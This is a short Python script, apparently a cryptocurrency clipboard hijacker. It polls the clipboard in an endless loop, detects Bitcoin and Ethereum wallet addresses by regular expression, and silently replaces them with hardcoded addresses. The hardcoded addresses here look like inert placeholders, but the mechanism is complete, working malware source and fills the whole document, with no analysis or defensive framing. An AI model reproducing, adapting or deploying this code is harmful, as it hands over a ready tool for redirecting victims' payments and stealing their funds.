import re, time, pyperclip
A = {"btc": "bc1qinertinertinertinertinert", "eth": "0x000000000000000000000000000000000000dEaD"}
while True:
    t = pyperclip.paste()
    if re.fullmatch(r"(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}", t): pyperclip.copy(A["btc"])
    elif re.fullmatch(r"0x[a-fA-F0-9]{40}", t): pyperclip.copy(A["eth"])
    time.sleep(0.4)
